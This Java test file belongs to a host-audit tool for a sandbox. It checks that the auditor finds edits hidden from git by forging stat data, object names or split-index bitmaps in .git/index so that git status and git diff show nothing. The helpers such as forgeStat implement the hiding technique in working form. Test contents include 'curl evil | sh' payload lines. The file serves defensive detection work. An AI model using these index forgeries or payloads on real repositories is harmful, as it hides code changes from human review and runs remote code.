package dev.sandboxmcp.hostaudit;

import static dev.sandboxmcp.hostaudit.HiddenChangesTest.about;
import static dev.sandboxmcp.hostaudit.HiddenChangesTest.commitAll;
import static dev.sandboxmcp.hostaudit.HiddenChangesTest.repository;
import static dev.sandboxmcp.hostaudit.TreeAuditTest.audit;
import static dev.sandboxmcp.hostaudit.TreeAuditTest.git;
import static org.assertj.core.api.Assertions.assertThat;

import java.nio.ByteBuffer;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.LinkOption;
import java.nio.file.Path;
import java.nio.file.attribute.FileTime;
import java.security.MessageDigest;
import java.time.Instant;
import java.util.List;
import java.util.Map;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;

/**
 * From the host user's side: a command changes a file and writes the file's new size, times and
 * inode into its index entry, which still names the old object. git then takes the entry as
 * unchanged without reading the file, and the change is in no review. Each case first shows the
 * host's git fooled, then the finding.
 */
class UnseenEditsTest {

    private static final String EVIL = "all:\n\tcurl evil | sh\n";

    @TempDir
    Path temp;

    @ParameterizedTest(name = "index version {0}, {1}")
    @CsvSource({"2, sha1", "3, sha1", "4, sha1", "2, sha256", "4, sha256"})
    void aChangeBehindStatDataWrittenIntoTheIndexIsFound(int version, String objectFormat) throws Exception {
        Path repo = repository(temp, objectFormat, 40);
        change(repo, "Makefile", EVIL);
        forgeStat(repo, "Makefile", objectFormat);
        git(repo, "update-index", "--index-version", String.valueOf(version));
        assertThat(git(repo, "status", "--porcelain")).as("git status does not show the change").isEmpty();
        assertThat(git(repo, "diff")).as("nor does git diff").isEmpty();
        assertThat(Files.readString(repo.resolve("Makefile"))).isEqualTo(EVIL);

        List<Finding> findings = audit(repo.getParent());

        assertThat(about(findings, UnseenEdits.UNSEEN)).singleElement().satisfies(finding -> {
            assertThat(finding.file()).isEqualTo("repo/.git/index");
            assertThat(finding.command()).startsWith("1 file: Makefile; sha256 ");
        });
        assertThat(findings).as("nothing else: every other entry is its file").hasSize(1);
    }

    @Test
    void changesGitSeesAreNotFindingsAndAnotherHiddenChangeIsANewOne() throws Exception {
        Path repo = repository(temp, "sha1", 5);
        Files.writeString(repo.resolve("Makefile"), "all:\n\techo changed, as git status shows\n");
        Files.writeString(repo.resolve("src/main/java/org/example/deeply/nested/File1.java"), "class Other {}\n");
        assertThat(git(repo, "status", "--porcelain")).contains("Makefile", "File1.java");
        assertThat(audit(repo.getParent())).isEmpty();

        change(repo, "Makefile", EVIL);
        forgeStat(repo, "Makefile", "sha1");
        Finding first = about(audit(repo.getParent()), UnseenEdits.UNSEEN).getFirst();
        change(repo, "Makefile", "all:\n\tcurl other | sh\n");
        forgeStat(repo, "Makefile", "sha1");
        assertThat(git(repo, "status", "--porcelain")).doesNotContain("Makefile");
        assertThat(about(audit(repo.getParent()), UnseenEdits.UNSEEN)).singleElement()
                .satisfies(finding -> assertThat(finding.command()).as("other content, another digest: an accepted "
                        + "finding does not cover it").isNotEqualTo(first.command()));
    }

    /** The watcher keeps hashes between rounds: one kept for a file must not cover what is written to it later. */
    @Test
    void aHashKeptFromAnEarlierAuditDoesNotHideALaterChange() throws Exception {
        Path repo = repository(temp, "sha1", 3);
        Path makefile = repo.resolve("Makefile");
        FileTime before = FileTime.from(Instant.now().minusSeconds(5));
        Files.setLastModifiedTime(makefile, before);
        git(repo, "update-index", "--refresh");
        Thread.sleep(1100); // the files' change times settle, so their hashes are kept
        assertThat(audit(repo.getParent())).isEmpty();

        Files.writeString(makefile, "all:\n\techo OK\n"); // the same size and modification time: only the change time moves
        Files.setLastModifiedTime(makefile, before);
        forgeStat(repo, "Makefile", "sha1");
        assertThat(git(repo, "status", "--porcelain")).isEmpty();

        assertThat(about(audit(repo.getParent()), UnseenEdits.UNSEEN)).hasSize(1);
    }

    /** core.autocrlf=true checks text out with CRLF; the index names the LF content. */
    @Test
    void aFileCheckedOutWithCrlfIsItsObject() throws Exception {
        Path repo = repository(temp, "sha1", 3);
        git(repo, "config", "core.autocrlf", "true");
        Files.delete(repo.resolve("Makefile"));
        git(repo, "checkout", "--", "Makefile");
        assertThat(Files.readString(repo.resolve("Makefile"))).isEqualTo("all:\r\n\techo ok\r\n");
        assertThat(git(repo, "status", "--porcelain")).isEmpty();

        assertThat(audit(repo.getParent())).isEmpty();
    }

    @Test
    void aLinkRetargetedBehindItsEntryIsFound() throws Exception {
        Path repo = repository(temp, "sha1", 2);
        Files.createSymbolicLink(repo.resolve("tool"), Path.of("Makefile"));
        commitAll(repo);
        Files.delete(repo.resolve("tool"));
        Files.createSymbolicLink(repo.resolve("tool"), Path.of("/tmp/xx"));
        Thread.sleep(1100); // the index is written in a later second than the link, so git does not take it as racy
        forgeStat(repo, "tool", "sha1");
        assertThat(git(repo, "status", "--porcelain")).isEmpty();

        assertThat(about(audit(repo.getParent()), UnseenEdits.UNSEEN)).singleElement()
                .satisfies(finding -> assertThat(finding.command()).startsWith("1 file: tool; "));
    }

    /** git keeps st_mtime's whole seconds, rounded down before 1970 too; an index dated 0 turns git's racy check off. */
    @Test
    void aFileDatedJustBefore1970IsComparedAsGitComparesIt() throws Exception {
        Path repo = repository(temp, "sha1", 2);
        Files.writeString(repo.resolve("Makefile"), EVIL);
        Files.setLastModifiedTime(repo.resolve("Makefile"), FileTime.from(Instant.ofEpochSecond(-1, 500_000_000)));
        forgeStat(repo, "Makefile", "sha1");
        Files.setLastModifiedTime(repo.resolve(".git/index"), FileTime.from(Instant.EPOCH));
        assertThat(git(repo, "status", "--porcelain")).isEmpty();

        assertThat(about(audit(repo.getParent()), UnseenEdits.UNSEEN)).hasSize(1);
    }

    /** Where core.symlinks is false (a file system without links), git trusts a regular file at a link's entry. */
    @Test
    void aFileAtALinksEntryIsComparedWhereGitTrustsIt() throws Exception {
        Path repo = repository(temp, "sha1", 2);
        Files.createSymbolicLink(repo.resolve("tool"), Path.of("Makefile"));
        commitAll(repo);
        git(repo, "config", "core.symlinks", "false");
        Files.delete(repo.resolve("tool"));
        change(repo, "tool", "curl evil | sh\n");
        forgeStat(repo, "tool", "sha1");
        assertThat(git(repo, "status", "--porcelain")).isEmpty();

        assertThat(about(audit(repo.getParent()), UnseenEdits.UNSEEN)).singleElement()
                .satisfies(finding -> assertThat(finding.command()).startsWith("1 file: tool; "));
    }

    /** Without core.autocrlf, git never writes CRLF for LF: a CR added before each LF is a change (a {@code bash\r} shebang). */
    @Test
    void carriageReturnsAddedBehindTheIndexAreAChangeUnlessGitChecksTextOutSo() throws Exception {
        Path repo = repository(temp, "sha1", 2);
        change(repo, "Makefile", "all:\r\n\techo ok\r\n");
        forgeStat(repo, "Makefile", "sha1");
        assertThat(git(repo, "status", "--porcelain")).isEmpty();

        assertThat(about(audit(repo.getParent()), UnseenEdits.UNSEEN)).hasSize(1);
        git(repo, "config", "core.autocrlf", "true");
        assertThat(about(audit(repo.getParent()), UnseenEdits.UNSEEN)).as("what core.autocrlf checks out").isEmpty();
    }

    /**
     * An entry dated no earlier than the index is one git reads again and shows; but the index's
     * date is the sandbox's to set, and dated later it hides the change again: named as such.
     */
    @Test
    void aChangeGitShowsOnlyWhileTheIndexIsDatedBeforeItIsNamedApart() throws Exception {
        Path repo = repository(temp, "sha1", 2);
        change(repo, "Makefile", EVIL);
        forgeStat(repo, "Makefile", "sha1");
        Path index = repo.resolve(".git/index");
        Files.setLastModifiedTime(index, FileTime.from(Instant.now().minusSeconds(60)));
        assertThat(git(repo, "diff", "--stat")).as("racy: git reads the file, and shows the change").contains("Makefile");
        Files.setLastModifiedTime(index, FileTime.from(Instant.now().minusSeconds(60)));

        List<Finding> findings = audit(repo.getParent());

        assertThat(about(findings, UnseenEdits.RACY)).singleElement()
                .satisfies(finding -> assertThat(finding.command()).startsWith("1 file: Makefile; "));
        assertThat(about(findings, UnseenEdits.UNSEEN)).isEmpty();
    }

    /** git compares the change time, inode and owner too: a same-size edit dated back ({@code touch -r}, {@code cp -p}) is one git shows. */
    @Test
    void anEditDatedBackIsNoFindingAsGitSeesItByItsChangeTime() throws Exception {
        Path repo = repository(temp, "sha1", 2);
        Path makefile = repo.resolve("Makefile");
        FileTime modified = Files.getLastModifiedTime(makefile);
        Thread.sleep(1100);
        Files.writeString(makefile, "all:\n\techo OK\n");
        Files.setLastModifiedTime(makefile, modified);
        assertThat(git(repo, "status", "--porcelain")).contains("Makefile");

        assertThat(audit(repo.getParent())).isEmpty();
        git(repo, "config", "core.checkStat", "minimal");
        assertThat(git(repo, "status", "--porcelain")).as("with core.checkStat=minimal git compares size and time only")
                .doesNotContain("Makefile");
        assertThat(about(audit(repo.getParent()), UnseenEdits.UNSEEN)).hasSize(1);
    }

    /** A split index names the entries that replace those of its shared part by position; merged as git merges them. */
    @Test
    void aChangeBehindAnEntryReplacingOneOfASplitIndexsSharedPartIsFound() throws Exception {
        Path repo = repository(temp, "sha1", 3);
        git(repo, "update-index", "--split-index");
        String committed = git(repo, "rev-parse", "HEAD:Makefile").strip();
        change(repo, "Makefile", EVIL);
        git(repo, "add", "Makefile");
        String added = git(repo, "rev-parse", ":Makefile").strip();
        replaceObjectName(repo, added, committed);
        assertThat(git(repo, "ls-files", "-s", "Makefile")).contains(committed);
        assertThat(git(repo, "--no-optional-locks", "status", "--porcelain")).as("the change is hidden").isEmpty();

        assertThat(about(audit(repo.getParent()), UnseenEdits.UNSEEN)).singleElement().satisfies(finding -> {
            assertThat(finding.file()).isEqualTo("repo/.git/index");
            assertThat(finding.command()).startsWith("1 file: Makefile; ");
        });
    }

    /** git reads config.worktree only with extensions.worktreeConfig: a core.worktree there must not lead the comparison away. */
    @Test
    void aWorkTreeNamedWhereGitDoesNotReadItDoesNotStandInForTheRealOne() throws Exception {
        Path repo = repository(temp, "sha1", 2);
        change(repo, "Makefile", EVIL);
        forgeStat(repo, "Makefile", "sha1");
        Files.createDirectories(repo.resolveSibling("decoy"));
        Files.writeString(repo.resolve(".git/config.worktree"), "[core]\n\tworktree = ../../decoy\n");
        assertThat(git(repo, "rev-parse", "--show-toplevel").strip()).isEqualTo(repo.toRealPath().toString());
        assertThat(git(repo, "status", "--porcelain")).isEmpty();

        assertThat(about(audit(repo.getParent()), UnseenEdits.UNSEEN)).singleElement()
                .satisfies(finding -> assertThat(finding.command()).startsWith("1 file: Makefile; "));
    }

    /** git sets every bit an EWAH bitmap's words give, whatever the bit count in front of them says. */
    @Test
    void aReplacementNamedByABitBeyondTheBitmapsCountIsMergedAsGitMergesIt() throws Exception {
        Path repo = twoFileSplitIndex();
        change(repo, "b.txt", "new b\n");
        byte[] replacement = entry(repo, "b.txt", "", git(repo, "rev-parse", ":b.txt").strip());
        writeSplitIndex(repo, List.of(replacement), ewah(0, 0), ewah(0, 0b10));
        assertThat(git(repo, "--no-optional-locks", "status", "--porcelain")).as("the change is hidden").isEmpty();

        assertThat(about(audit(repo.getParent()), UnseenEdits.UNSEEN)).singleElement()
                .satisfies(finding -> assertThat(finding.command()).startsWith("1 file: b.txt; "));
    }

    /** git replaces first, each replacement taking the next nameless entry, and deletes after. */
    @Test
    void aPositionBothReplacedAndDeletedStillTakesItsReplacement() throws Exception {
        Path repo = twoFileSplitIndex();
        change(repo, "b.txt", "new b\n");
        writeSplitIndex(repo, List.of(entry(repo, "a.txt", "", git(repo, "rev-parse", ":a.txt").strip()),
                entry(repo, "b.txt", "", git(repo, "rev-parse", ":b.txt").strip()),
                entry(repo, "a.txt", "a.txt", git(repo, "rev-parse", ":a.txt").strip())), ewah(2, 0b01), ewah(2, 0b11));
        assertThat(git(repo, "ls-files")).isEqualTo("a.txt\nb.txt\n");
        assertThat(git(repo, "--no-optional-locks", "status", "--porcelain")).as("the change is hidden (and the index "
                + "as written: git status would write it again)").isEmpty();

        assertThat(about(audit(repo.getParent()), UnseenEdits.UNSEEN)).singleElement()
                .satisfies(finding -> assertThat(finding.command()).startsWith("1 file: b.txt; "));
    }

    /** A repository of a.txt and b.txt (positions 0 and 1 of the shared part) whose index is split. */
    Path twoFileSplitIndex() throws Exception {
        Path repo = Files.createDirectories(temp.resolve("tree/repo"));
        git(repo, "init", "-q");
        Files.writeString(repo.resolve("a.txt"), "old a\n");
        Files.writeString(repo.resolve("b.txt"), "old b\n");
        commitAll(repo);
        git(repo, "update-index", "--split-index");
        return repo;
    }

    /** An index entry (version 2) for the file {@code file} as it is now, with the path {@code name} (empty: a replacement). */
    static byte[] entry(Path repo, String file, String name, String objectName) throws Exception {
        Map<String, Object> stat = Files.readAttributes(repo.resolve(file), "unix:ctime,lastModifiedTime,dev,ino,mode,uid,gid,size",
                LinkOption.NOFOLLOW_LINKS);
        Instant ctime = ((FileTime) stat.get("ctime")).toInstant();
        Instant mtime = ((FileTime) stat.get("lastModifiedTime")).toInstant();
        byte[] path = name.getBytes(StandardCharsets.UTF_8);
        ByteBuffer entry = ByteBuffer.allocate((62 + path.length + 8) & ~7);
        entry.putInt((int) ctime.getEpochSecond()).putInt(ctime.getNano()).putInt((int) mtime.getEpochSecond())
                .putInt(mtime.getNano()).putInt((int) (long) stat.get("dev")).putInt((int) (long) stat.get("ino"))
                .putInt((int) stat.get("mode")).putInt((int) stat.get("uid")).putInt((int) stat.get("gid"))
                .putInt((int) (long) stat.get("size")).put(java.util.HexFormat.of().parseHex(objectName))
                .putShort((short) path.length).put(path);
        return entry.array();
    }

    /** An EWAH bitmap of one literal word, as git writes it: bit count, word count, the words, the last run-length word's position. */
    static byte[] ewah(int bits, long word) {
        return ByteBuffer.allocate(4 + 4 + 16 + 4).putInt(bits).putInt(2).putLong(1L << 33).putLong(word).putInt(0).array();
    }

    /** Writes a split index's main part (version 2): {@code entries}, then a link to its shared part, dated ahead of the files. */
    static void writeSplitIndex(Path repo, List<byte[]> entries, byte[] deleted, byte[] replaced) throws Exception {
        String shared;
        try (var found = Files.list(repo.resolve(".git"))) {
            shared = found.map(path -> path.getFileName().toString()).filter(name -> name.startsWith("sharedindex."))
                    .findFirst().orElseThrow().substring("sharedindex.".length());
        }
        java.io.ByteArrayOutputStream index = new java.io.ByteArrayOutputStream();
        index.writeBytes(ByteBuffer.allocate(12).put("DIRC".getBytes(StandardCharsets.US_ASCII)).putInt(2)
                .putInt(entries.size()).array());
        entries.forEach(index::writeBytes);
        byte[] link = ByteBuffer.allocate(20 + deleted.length + replaced.length).put(java.util.HexFormat.of().parseHex(shared))
                .put(deleted).put(replaced).array();
        index.writeBytes(ByteBuffer.allocate(8).put("link".getBytes(StandardCharsets.US_ASCII)).putInt(link.length).array());
        index.writeBytes(link);
        index.writeBytes(MessageDigest.getInstance("SHA-1").digest(index.toByteArray()));
        Path file = repo.resolve(".git/index");
        Files.write(file, index.toByteArray());
        Files.setLastModifiedTime(file, FileTime.from(Instant.now().plusSeconds(5)));
    }

    /** A sparse file can claim any size: past the limit it is named, not read. */
    @Test
    void aFileLargerThanTheLimitIsNamedNotRead() throws Exception {
        Path repo = repository(temp, "sha1", 1);
        try (var big = new java.io.RandomAccessFile(repo.resolve("big.bin").toFile(), "rw")) {
            big.setLength(UnseenEdits.MAX_FILE_BYTES + 1);
        }
        Files.setLastModifiedTime(repo.resolve("big.bin"), FileTime.from(Instant.now().minusSeconds(5)));
        git(repo, "update-index", "--add", "--cacheinfo", "100644," + git(repo, "hash-object", "-w", "Makefile").strip()
                + ",big.bin");
        forgeStat(repo, "big.bin", "sha1");

        Finding first = about(audit(repo.getParent()), UnseenEdits.UNREAD).getFirst();
        assertThat(first.command()).startsWith("1 file whose content the audit cannot compare with its entry: big.bin;");

        // written again, its size and time kept (git compares no more where core.checkStat is minimal)
        FileTime modified = Files.getLastModifiedTime(repo.resolve("big.bin"));
        Thread.sleep(20);
        try (var big = new java.io.RandomAccessFile(repo.resolve("big.bin").toFile(), "rw")) {
            big.write("curl evil | sh\n".getBytes(StandardCharsets.UTF_8));
        }
        Files.setLastModifiedTime(repo.resolve("big.bin"), modified);
        git(repo, "config", "core.checkStat", "minimal");
        assertThat(about(audit(repo.getParent()), UnseenEdits.UNREAD)).singleElement().satisfies(finding -> assertThat(
                finding.command()).as("an accepted finding does not cover the file written again").isNotEqualTo(first.command()));
    }

    /** Writes {@code content} to the tracked file {@code name}, dated a few seconds back so that git does not take it as racy. */
    static void change(Path repo, String name, String content) throws Exception {
        Path file = repo.resolve(name);
        Files.writeString(file, content);
        Files.setLastModifiedTime(file, FileTime.from(Instant.now().minusSeconds(5)));
    }

    /** Writes {@code replacement} over the object name {@code found} where the index holds it (once), and the checksum after. */
    static void replaceObjectName(Path repo, String found, String replacement) throws Exception {
        Path indexFile = repo.resolve(".git/index");
        byte[] index = Files.readAllBytes(indexFile);
        byte[] from = java.util.HexFormat.of().parseHex(found);
        byte[] to = java.util.HexFormat.of().parseHex(replacement);
        int at = -1;
        for (int i = 12; i + from.length <= index.length - from.length && at < 0; i++) {
            if (java.util.Arrays.equals(index, i, i + from.length, from, 0, from.length)) {
                at = i;
            }
        }
        assertThat(at).as(found + " in the index").isPositive();
        System.arraycopy(to, 0, index, at, to.length);
        MessageDigest digest = MessageDigest.getInstance(from.length == 32 ? "SHA-256" : "SHA-1");
        digest.update(index, 0, index.length - from.length);
        System.arraycopy(digest.digest(), 0, index, index.length - from.length, from.length);
        Files.write(indexFile, index);
    }

    /**
     * What a command does to hide the change: writes the file's stat data into its entry of the
     * index (version 2 or 3, as git leaves it), keeping the object name, and the index's checksum
     * after it. The index is dated after the file, so git takes the entry as clean.
     */
    static void forgeStat(Path repo, String name, String objectFormat) throws Exception {
        Path indexFile = repo.resolve(".git/index");
        git(repo, "update-index", "--index-version", "2");
        int hashBytes = objectFormat.equals("sha256") ? 32 : 20;
        ByteBuffer index = ByteBuffer.wrap(Files.readAllBytes(indexFile));
        int count = index.getInt(8);
        int at = 12;
        for (int i = 0; i < count; i++) {
            int flags = index.getShort(at + 40 + hashBytes) & 0xFFFF;
            int fixed = 40 + hashBytes + 2 + ((flags & 0x4000) != 0 ? 2 : 0);
            int length = flags & 0x0FFF;
            String path = new String(index.array(), at + fixed, length, StandardCharsets.UTF_8);
            if (path.equals(name)) {
                Map<String, Object> stat = Files.readAttributes(repo.resolve(name),
                        "unix:ctime,lastModifiedTime,dev,ino,uid,gid,size", LinkOption.NOFOLLOW_LINKS);
                Instant ctime = ((FileTime) stat.get("ctime")).toInstant();
                Instant mtime = ((FileTime) stat.get("lastModifiedTime")).toInstant();
                index.putInt(at, (int) ctime.getEpochSecond()).putInt(at + 4, ctime.getNano())
                        .putInt(at + 8, (int) mtime.getEpochSecond()).putInt(at + 12, mtime.getNano())
                        .putInt(at + 16, (int) (long) stat.get("dev")).putInt(at + 20, (int) (long) stat.get("ino"))
                        .putInt(at + 28, (int) stat.get("uid")).putInt(at + 32, (int) stat.get("gid"))
                        .putInt(at + 36, (int) (long) stat.get("size"));
                int end = index.capacity() - hashBytes;
                MessageDigest digest = MessageDigest.getInstance(hashBytes == 32 ? "SHA-256" : "SHA-1");
                digest.update(index.array(), 0, end);
                index.put(end, digest.digest());
                Files.write(indexFile, index.array());
                return;
            }
            at += (fixed + length + 8) & ~7;
        }
        throw new AssertionError(name + " is not in the index");
    }
}
